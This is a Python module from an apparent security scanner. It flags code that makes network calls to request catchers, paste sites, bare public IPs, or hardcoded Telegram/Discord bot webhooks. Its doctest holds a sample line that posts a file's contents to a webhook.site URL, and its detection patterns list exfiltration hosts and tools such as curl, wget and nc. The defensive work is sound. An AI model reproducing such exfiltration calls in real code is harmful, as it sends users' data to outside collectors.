"""Code that talks to a request catcher, a paste site, a bare public IP address or the
author's own chat bot.

Request catchers (``webhook.site``, ``requestbin``, interaction servers) exist to collect
whatever strangers send them, and a skill's code has no reason to call a bare public IP
address, a paste site, or a Telegram bot or Discord webhook whose token it writes in: these
are where stolen data is dropped and where command-and-control lives. The URL must be used
by a network call, on its line or through a name it is assigned to, so a list of hosts to
block or a help text is not a finding. Prose is never read here (documents describe such
hosts), nor are test files, where a scanner keeps the specimens it is tested on.

>>> code = "URL = 'https://webhook.site/0f3a'\\nrequests.post(URL, data=open('n').read())"
>>> [(f.rule_id, f.line) for f in collector_requests("scripts/a.py", code)]
[('network.collector-host', 1)]
>>> collector_requests("scripts/a.py", "BLOCKED = ['webhook.site', 'requestbin.net']")
[]
"""

from __future__ import annotations

import re

from .code_comments import is_comment_line
from .family_patterns import PASTE_HOSTS, PUBLIC_IP
from .findings import ThreatFinding, line_finding
from .literal_scan import line_index, scanner_for
from .textutil import is_test_file

RULE_ID = "network.collector-host"
_CATCHERS = (
    r"webhook\.site|requestbin\.\w+|[\w-]+\.m\.pipedream\.net|hookbin\.com|beeceptor\.com"
    r"|requestcatcher\.com|webhook\.cool|interact\.sh|oast\.(?:fun|live|site|online|pro|me)"
    r"|burpcollaborator\.net|canarytokens\.com|dnslog\.cn|ceye\.io"
)
_AUTHORS_CHAT = (
    r"api\.telegram\.org/bot\d+:(?!X+\b)[\w-]{4,}"
    r"|discord(?:app)?\.com/api/webhooks/\d+/(?!X+\b)[\w-]{4,}"
)
"""A chat bot or webhook whose token is written in the code: the author's channel, which
whatever the code sends lands in (a user's own bot is configured, not written in)."""
_COLLECTOR_URL = re.compile(
    rf"\bhttps?://(?:(?:[\w-]+\.)*(?:{_CATCHERS}|{PASTE_HOSTS})(?=[/:\s\"'`)>\]]|$)|{PUBLIC_IP}"
    rf"|{_AUTHORS_CHAT})",
    re.I,
)


def is_collector_host(host: str) -> bool:
    """``host`` is a request catcher, a paste site or a bare public IP address.

    >>> is_collector_host("webhook.site"), is_collector_host("api.acme.com")
    (True, False)
    """
    return bool(_COLLECTOR_URL.match(f"https://{host}/"))


_NETWORK_CALL = re.compile(
    r"\b(?:requests|httpx|aiohttp|session)\.(?:get|post|put|patch|request)\s*\("
    r"|\burlopen\s*\(|\bRequest\s*\(|\bHTTPS?Connection\s*\(|\bfetch\s*\(|\baxios\b"
    r"|\bhttps?\.(?:get|request)\s*\(|\bXMLHttpRequest\b|\.open\s*\(\s*[\"'](?:GET|POST|PUT)"
    r"|\bsendBeacon\s*\(|\bWebSocket\s*\(|\bsocket\.(?:connect|create_connection)\b"
    r"|\b(?:curl|wget|nc|ncat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b"
)
_NOT_A_SERVER = re.compile(
    r"//(?:100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.)"
)
"""Carrier-grade NAT space (100.64.0.0/10), where private overlay networks put their hosts,
and the documentation ranges (RFC 5737), which no server answers on."""
_ASSIGNED = re.compile(r"^\s*(?:export\s+|const\s+|let\s+|var\s+)?([A-Za-z_$][\w$]*)\s*[:=]")
_FOLLOWING = 200
"""Lines after an assignment in which a use of the name counts."""


def collector_requests(path: str, text: str) -> list[ThreatFinding]:
    """One finding per line whose collector URL a network call of this file uses."""
    if is_test_file(path) or not scanner_for(_COLLECTOR_URL).search(text):
        return []
    lines = line_index(text).lines
    findings = []
    for number, line in enumerate(lines, 1):
        url = _COLLECTOR_URL.search(line)
        if not url or is_comment_line(line) or _NOT_A_SERVER.search(url.group(0)):
            continue
        if _NETWORK_CALL.search(line) or _used_by_a_call(line, lines[number : number + _FOLLOWING]):
            description = (
                f"network call to {url.group(0)[:60]}: a request catcher, a paste site or a "
                "bare IP, where stolen data is collected"
            )
            findings.append(line_finding(path, lines, number, "8.2", "high", description, RULE_ID))
    return findings


def _used_by_a_call(line: str, following: list[str]) -> bool:
    """``line`` assigns the URL to a name that a later network call uses."""
    assigned = _ASSIGNED.match(line)
    if not assigned:
        return False
    name = re.compile(rf"(?<![\w.]){re.escape(assigned.group(1))}(?![\w$])")
    return any(_NETWORK_CALL.search(later) and name.search(later) for later in following)
